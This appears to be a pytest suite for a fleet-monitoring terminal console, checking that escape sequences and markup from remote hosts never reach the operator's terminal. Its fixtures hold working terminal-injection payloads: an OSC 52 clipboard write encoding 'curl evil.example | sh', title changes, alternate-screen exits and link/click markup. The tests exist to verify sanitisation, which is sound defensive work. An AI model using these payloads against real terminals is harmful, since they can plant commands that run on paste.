"""Issue 15 item 1: nothing a host sends reaches the operator's terminal as a control sequence or as markup.

Hostile text (OSC 52 clipboard writes with a command and newline, OSC 0 titles, leaving the alternate screen,
cursor moves, 8-bit C1 controls, DCS/APC strings, ``[link=...]`` and ``[@click=...]`` markup) comes from a
real agent over a real sshd (a log file and its name, a process's name and command line, a custom probe's
output), and from a hostile fake ``python3`` (hello, GPU name/error/message, error frames, a verdict and its
evidence, an agent's dying words). The app renders it (Pilot); every rendered segment is checked; and the
console runs in tmux, where the terminal itself tells whether its title, clipboard or screen were touched.
"""

from __future__ import annotations

import base64
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from console.core.audit import AuditLog
from console.core.controller import FleetController
from console.core.state import FleetState
from console.core.text_safety import clean, clean_deep, clean_lines
from console.inventory import Fleet, Instance, ProbeSpec
from console.ui.app import FleetApp
from tests.hostile import fake_python
from tests.support.app import wait_until as app_wait_until
from tests.support.sshd import Sshd, ssh_instance
from tests.support.tmux import Tmux
from widgets.instance_screen import InstanceScreen
from widgets.process_tree import ProcessTree

PAYLOAD = base64.b64encode(b"curl evil.example | sh\n").decode()
OSC52 = "\x1b]52;c;" + PAYLOAD + "\x07"  # clipboard write: a command plus newline, run on paste
TITLE = "\x1b]0;PWNED-TITLE\x07"
TITLE_ST = "\x1b]2;PWNED-TITLE2\x1b\\"
ALT_OFF = "\x1b[?1049l"  # leave the alternate screen
CURSOR = "\x1b[2J\x1b[H\x1b[10;10H\x1b[31m"
C1 = "\x9b2J\x9d0;C1-TITLE\x9c\x85\x8d"  # 8-bit CSI, OSC ... ST, NEL, RI
DCS = "\x1bP+q544e\x1b\\\x1b_APC-body\x1b\\\x1b^PM-body\x1b\\\x1bX SOS-body\x1b\\"
LINK = "[link=file:///etc/passwd]x[/link]"
CLICK = "[@click=app.quit]quit[/]"
MARKUP = LINK + " " + CLICK + " [/] [bold]"
SEQUENCES = OSC52 + TITLE + TITLE_ST + ALT_OFF + CURSOR + C1 + DCS + "\x07\x08\x00\x7f\u202e"
HOSTILE = "HOSTILE " + MARKUP + " " + SEQUENCES + " END"
SAFE = "HOSTILE " + MARKUP + "  END"  # what is left to show
ARGV_HOSTILE = HOSTILE.replace("\x00", "")  # (an argv cannot hold NUL)

# what must never appear in rendered text: ESC, C0 but tab/newline, DEL, C1, bidi overrides
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


# -- the cleaner and the state boundary --------------------------------------------------------------------
@pytest.mark.parametrize(
    "raw",
    [OSC52, TITLE, TITLE_ST, ALT_OFF, CURSOR, C1, DCS, "\x1b]52;c;" + PAYLOAD, "\x1b", "\x9b", "\u202e\u2066"],
)
def test_every_kind_of_sequence_goes_with_its_body(raw: str) -> None:
    out = clean("a" + raw + "b")
    assert out == "ab" or (out.startswith("a") and not CONTROL.search(out)), repr(out)
    assert "PWNED" not in out and PAYLOAD not in out and "body" not in out


def test_cleaning_keeps_text_tabs_markup_and_what_a_terminal_shows_after_a_carriage_return() -> None:
    assert clean(HOSTILE) == SAFE
    assert clean("a\tb") == "a\tb"
    assert clean("progress 10%\rprogress 90%") == "progress 90%"
    assert clean("one\ntwo") == "one two" and clean("one\ntwo", keep_newlines=True) == "one\ntwo"
    assert clean(None) == "" and clean(42) == "42"
    printable = ["step %d" % i for i in range(5)]
    assert clean_lines(printable) is printable  # the hot path: no copy
    assert clean_lines(["ok", HOSTILE, 3, None]) == ["ok", SAFE, "3", ""]
    assert clean_deep({"a": [HOSTILE, {"b": TITLE}], "n": 1, "t": None}) == {"a": [SAFE, {"b": ""}], "n": 1, "t": None}


def test_state_cleans_every_host_field_where_frames_enter() -> None:
    state = FleetState()
    state.add_instance(Instance(name="box", host="h"))
    state.set_link_status("box", "connected", "agent " + HOSTILE)
    state.apply_frame("box", {"type": "hello", "ts": 1.0, "v": 1, "agent_version": HOSTILE, "host": HOSTILE,
                              "pid": 7, "python": "3.11", "features": {"ops": []}})
    state.apply_frame("box", {"type": "gpu", "ts": 1.0, "state": "ok", "full": True, "simulated": False,
                              "driver": HOSTILE, "message": HOSTILE,
                              "devices": [{"index": 0, "util": 5, "name": HOSTILE, "uuid": HOSTILE, "error": HOSTILE}]})
    state.apply_frame("box", {"type": "gpu", "ts": 2.0, "state": "ok", "full": False, "message": HOSTILE,
                              "devices": [{"index": 0, "util": 5, "error": HOSTILE}]})
    rec = {"pid": 9, "ppid": 1, "name": HOSTILE, "cmdline": HOSTILE, "state": "S", "wchan": HOSTILE, "cpu": 0.0,
           "rss": 1, "start": 1.0, "gpu_mem": None}
    state.apply_frame("box", {"type": "procs", "ts": 1.0, "full": True, "procs": [rec]})
    state.apply_frame("box", {"type": "procs", "ts": 1.0, "full": False, "upsert": [dict(rec, pid=10)], "gone": []})
    state.apply_frame("box", {"type": "log", "ts": 1.0, "path": "/tmp/" + HOSTILE, "lines": [HOSTILE, "fine"],
                              "first_line": 1, "backlog": False, "event": None})
    state.apply_frame("box", {"type": "error", "ts": 1.0, "message": HOSTILE})
    state.apply_frame("box", {"type": "result", "ts": 1.0, "id": 1, "ok": False, "error": HOSTILE})
    state.set_diagnosis("box", {"verdict": {"code": "x", "severity": "error", "summary": HOSTILE, "brief": HOSTILE},
                                "findings": [{"code": "x", "severity": "error", "summary": HOSTILE,
                                              "evidence": [{"path": HOSTILE, "line": 1, "text": HOSTILE}]}],
                                "steps": [{"name": "s", "status": "ok", "summary": HOSTILE, "lines": [HOSTILE]}]})
    state.set_probe_result("box", "p", {"title": HOSTILE, "lines": [HOSTILE, "ok"]})
    box = state.get("box")
    assert box is not None
    texts = [box.link_detail, box.status_detail, str(box.hello), box.gpu_driver, box.gpu_message,
             str(box.gpus[0].static), str(box.gpus[0].sample), box.gpus[0].error, str(box.procs),
             str(list(box.logs)), str(box.logs["/tmp/" + SAFE].lines), str(box.last_log), str(box.errors),
             str(box.results), str(box.diagnosis), str(box.probes), box.verdict_summary()]
    for text in texts:
        assert text and not CONTROL.search(text) and "PWNED" not in text, text
    assert box.procs[9]["cmdline"] == SAFE and box.procs[10]["name"] == SAFE and box.gpus[0].error == SAFE
    assert box.logs["/tmp/" + SAFE].last == (2, "fine")


# -- through a real agent over a real sshd, rendered by the app ------------------------------------------
def rendered(app: FleetApp) -> str:
    """The screen as the terminal would get it, every segment checked: no control character, no link, no
    action taken from text."""
    lines = []
    for strip in app.screen._compositor.render_strips():
        for seg in strip:
            assert not CONTROL.search(seg.text), "control character on screen: %r" % seg.text
            style = seg.style
            if style is not None:
                assert not style.link, "a link on screen: %r -> %r" % (seg.text, style.link)
                assert "app.quit" not in str(style.meta.get("@click", "")), "a click action from text: %r" % seg.text
        lines.append(strip.text)
    return "\n".join(lines)


async def wait_until(pilot, predicate, timeout: float = 40.0, what: str = "condition"):
    """``tests.support.app.wait_until`` with 40 s to go by default (three hosts, one of them hostile)."""
    return await app_wait_until(pilot, predicate, timeout, what)


@pytest.fixture
def hostile_process() -> Iterator[subprocess.Popen[bytes]]:
    """A real process on the host whose name (comm) and command line are hostile."""
    code = "import sys, time; open('/proc/self/comm', 'w').write(sys.argv[1]); time.sleep(300)"
    proc = subprocess.Popen([sys.executable, "-c", code, "\x1b]0;PWN\x07[@c", ARGV_HOSTILE])
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


HOSTILE_AGENT = '''
import threading
H = %r
hello(agent_version=H, host=H)
send({"type": "error", "ts": time.time(), "message": "agent error " + H})
def answer():
    for line in sys.stdin:
        req = json.loads(line)
        if req.get("op") == "diagnose":
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True, "data": {
                "verdict": {"code": "cuda_error", "severity": "error", "summary": "verdict " + H, "label": "x",
                            "explanation": H},
                "findings": [{"code": "cuda_error", "severity": "error", "summary": "finding " + H,
                              "evidence": [{"path": "/var/log/" + H, "line": 3, "text": "evidence " + H}]}],
                "steps": []}})
        elif "id" in req:
            send({"type": "result", "ts": time.time(), "id": req["id"], "ok": True, "data": {}})
threading.Thread(target=answer, daemon=True).start()
seq = 0
while True:
    seq += 1
    send({"type": "heartbeat", "ts": time.time(), "seq": seq, "samples": seq, "sent": 0})
    send({"type": "gpu", "ts": time.time(), "state": "ok", "full": True, "simulated": False, "driver": H,
          "message": "gpu message " + H,
          "devices": [{"index": 0, "util": 40, "name": "gpu name " + H, "error": "gpu error " + H}]})
    time.sleep(0.3)
''' % HOSTILE

DYING_AGENT = '''
sys.stderr.write("dying words " + %r + "\\n")
sys.stderr.flush()
sys.exit(1)
''' % HOSTILE


async def test_hostile_host_text_is_shown_safe_and_never_interpreted(
    sshd: Sshd, tmp_path: Path, hostile_process: subprocess.Popen[bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FLEET_CONSOLE_CONFIG_DIR", str(tmp_path / "config"))
    logdir = tmp_path / "logs"
    logdir.mkdir()
    log = logdir / ("evil\x1b]0;FILE-TITLE\x07[link=ssh:evil]n.log")  # (no "/" in a file name)
    log.write_text("".join("%s %d\n" % (HOSTILE, i) for i in range(1, 6)), encoding="utf-8")
    fast = {"heartbeat_interval": 0.5, "log_interval": 0.2}
    real = ssh_instance(sshd, name="real[/]box", logs=(str(log),), interval=0.5, agent_extra=fast)
    fake = ssh_instance(sshd, name="fake", python=fake_python(tmp_path, HOSTILE_AGENT), agent_extra=fast)
    dying_dir = tmp_path / "dying"
    dying_dir.mkdir()
    dying = ssh_instance(sshd, name="dying", python=fake_python(dying_dir, DYING_AGENT), agent_extra=fast)
    probe = ProbeSpec(name="evil", key="x", command="printf '%s\\n' " + _sh_quote(ARGV_HOSTILE) + "; echo probe-done")
    fleet = Fleet([real, fake, dying], probes=[probe], source=str(tmp_path / "fleet.toml"))
    app = FleetApp(FleetController(fleet, audit=AuditLog(tmp_path / "audit.jsonl")), theme="dark")
    async with app.run_test(size=(160, 50), notifications=True) as pilot:
        state = app.state
        await wait_until(pilot, lambda: (state.get("real[/]box").last_log and state.get("fake").gpus
                                         and state.get("dying").errors is not None
                                         and "dying words" in state.get("dying").link_detail),
                         what="the three hosts' text")
        await pilot.pause(0.5)
        grid = rendered(app)
        assert "real[/]box" in grid and "HOSTILE [link=file:///etc/passwd]x[/link]" in grid, grid
        detail = state.get("dying").link_detail  # (the pane shows its start: a host's own noise may come first)
        assert "dying words HOSTILE " + MARKUP in detail and not CONTROL.search(detail), detail

        # the real host: its log tab (a hostile name), its process (hostile comm and command line), a probe
        app.open_instance("real[/]box")
        await wait_until(pilot, lambda: isinstance(app.screen, InstanceScreen) and app.screen.is_mounted)
        await pilot.press("3")
        await pilot.pause(0.5)
        screen = rendered(app)
        assert "evil[link=ssh:evil]n.log" in screen, screen
        assert SAFE + " 5" in screen, screen
        await pilot.press("2")
        tree = app.screen.query_one(ProcessTree)
        await wait_until(pilot, lambda: hostile_process.pid in tree._pt_nodes, what="the hostile process")
        node = tree._pt_nodes[hostile_process.pid]
        tree.move_cursor(node, animate=False)
        tree.scroll_to_node(node, animate=False)
        await pilot.pause(0.5)
        screen = rendered(app)
        assert "]0;PWN[@c" in screen or "[@c" in screen, screen  # the comm, its OSC gone
        assert str(node.label).count("HOSTILE [link=file:///etc/passwd]x[/link]") == 1
        await pilot.press("p")
        await pilot.pause(0.3)
        await pilot.press("x")
        await wait_until(pilot, lambda: "evil" in state.get("real[/]box").probes, what="the probe's output")
        await pilot.press("5")
        await pilot.pause(0.5)
        screen = rendered(app)
        assert "HOSTILE " + MARKUP in screen and "probe-done" in screen, screen  # (NEL splits a line)
        await pilot.press("escape")

        # the hostile python3: hello, GPU name/error/message, an error frame, a verdict with evidence
        app.open_instance("fake")
        await wait_until(pilot, lambda: isinstance(app.screen, InstanceScreen) and app.screen.instance_name == "fake")
        await pilot.pause(0.5)
        screen = rendered(app)
        assert "gpu name " + SAFE in screen and "gpu message " + SAFE in screen, screen
        await pilot.press("d")
        await wait_until(pilot, lambda: state.get("fake").diagnosis is not None, what="the verdict")
        await pilot.press("4")
        await pilot.pause(0.5)
        screen = rendered(app)
        assert "verdict " + SAFE in screen and "evidence " + SAFE in screen, screen
        assert [m for _, m in state.get("fake").errors] == ["agent error " + SAFE]

        # nothing was interpreted: the app still runs ([@click=app.quit] did nothing), no link anywhere
        assert app.is_running and app.return_code is None
        notices = " ".join(m for _, _, m in app.notices)
        assert not CONTROL.search(notices)
    await app.controller.stop()


def _sh_quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# -- in a real terminal: the title, the clipboard and the alternate screen stay as the console set them ----
def test_hostile_log_in_tmux_never_reaches_the_terminal(sshd: Sshd, tmp_path: Path) -> None:
    logdir = tmp_path / "logs"
    logdir.mkdir()
    log = logdir / "benchmark-full.log"
    # one sequence a line too, each properly ended (ST): a terminal acts on those even after Rich drops BEL
    singles = ["title \x1b]2;PWNED-TITLE2\x1b\\ t", "clip \x1b]52;c;" + PAYLOAD + "\x1b\\ c",
               "title \x1b]0;PWNED-TITLE3\x07 t", "alt \x1b[?1049l a"]
    text = "".join("%s %d\n" % (HOSTILE, i) for i in range(1, 30)) + "\n".join(singles) + "\n"
    log.write_text(text, encoding="utf-8")
    fleet = tmp_path / "fleet.toml"
    fleet.write_text(
        f"""\
[defaults]
user = "{sshd.user}"
key = "{sshd.client_key_path}"
known_hosts = "{sshd.known_hosts}"
watch_dirs = []

[[instance]]
name = "gpu-box"
host = "127.0.0.1"
port = {sshd.port}
logs = ["{log}"]
"""
    )
    term = Tmux(120, 40)
    try:
        env = {"FLEET_CONSOLE_CONFIG_DIR": str(tmp_path / "config")}
        term.start([sys.executable, "-m", "console", "--fleet", str(fleet), "--theme", "dark"], env=env)
        term._tmux("set-option", "-g", "set-clipboard", "on", check=False)  # OSC 52 would fill a paste buffer
        term._tmux("set-option", "-g", "allow-rename", "on", check=False)
        term._tmux("set-option", "-g", "allow-passthrough", "off", check=False)
        term.wait_for(lambda s: "gpu-box" in s and "alt" in s, timeout=40, what="the hostile line on the grid")
        term.keys("Enter")
        term.wait_for(lambda s: "Processes" in s and "Logs" in s, what="instance screen")
        term.keys("3")
        screen = term.wait_for(lambda s: "HOSTILE [link=file:///etc/passwd]x[/link]" in s, what="the log tab")
        time.sleep(1.0)
        for tab in ("2", "1", "3"):  # repaint a few times
            term.keys(tab)
            time.sleep(0.3)

        def show(fmt: str) -> str:
            return term._tmux("display-message", "-p", "-t", "main", fmt, check=False).stdout.strip()

        assert "PWNED" not in show("#{pane_title}") and "C1-TITLE" not in show("#{pane_title}")
        assert show("#{alternate_on}") == "1", "the console left the alternate screen"
        buffers = term._tmux("list-buffers", check=False).stdout
        assert not buffers.strip(), "a clipboard write reached the terminal: %r" % buffers
        escaped = term._tmux("capture-pane", "-e", "-p", "-t", "main", check=False).stdout
        assert "\x1b]" not in escaped and "\x1b[?1049" not in escaped and "PWNED" not in escaped
        assert "HOSTILE [link=file:///etc/passwd]x[/link] [@click=app.quit]quit[/]" in screen
        assert "title  t" in screen and "clip  c" in screen and "alt  a" in screen, screen
        assert not term.pane_dead(), "the console still runs"
        term.keys("q")
        term.keys("q")
        deadline = time.monotonic() + 15
        while not term.pane_dead() and time.monotonic() < deadline:
            time.sleep(0.2)
    finally:
        term.close()
